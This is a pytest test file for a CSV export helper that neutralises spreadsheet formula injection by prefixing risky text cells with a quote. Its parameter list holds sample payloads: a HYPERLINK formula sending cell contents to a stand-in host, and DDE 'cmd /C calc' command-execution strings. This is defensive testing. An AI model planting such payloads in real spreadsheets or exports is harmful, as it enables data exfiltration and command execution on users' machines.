"""Formula injection in CSV files: text cells a spreadsheet would evaluate get a leading quote."""

import csv
import hashlib

import pandas as pd
import pytest

from connectors.safe_csv import neutralise, write_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"open")', '\'=HYPERLINK("http://x.example/?"&A1,"open")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),
        ("+49 30 70594291", "'+49 30 70594291"),
        ("+4930=1", "'+4930=1"),
        ("+493070594291", "+493070594291"),
        ("+13129336651", "+13129336651"),
        ("ana@example.com", "ana@example.com"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise(value, written):
    assert neutralise(value) == written


def test_write_csv_quotes_text_cells_and_leaves_numbers_and_hashes_alone(tmp_path):
    digest = hashlib.sha256(b"ana@example.com").hexdigest()
    frame = pd.DataFrame(
        {
            "customer_id": pd.Series(["cus_1", "=1+1", None], dtype="string"),
            "note": ["@SUM(A1)", "ok", float("nan")],
            "phone_e164": ["+493070594291", "-1", None],
            "email_sha256": [digest, digest, None],
            "score": [-5, 3, 7],
            "delta": [-1.5, 0.0, 2.0],
            "=header": [True, False, True],
        }
    )
    path = tmp_path / "out.csv"

    write_csv(frame, path)

    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["customer_id", "note", "phone_e164", "email_sha256", "score", "delta", "'=header"],
        ["cus_1", "'@SUM(A1)", "+493070594291", digest, "-5", "-1.5", "True"],
        ["'=1+1", "ok", "'-1", digest, "3", "0.0", "False"],
        ["", "", "", "", "7", "2.0", "True"],
    ]
    assert frame.loc[1, "customer_id"] == "=1+1"  # the caller's frame is left as it was
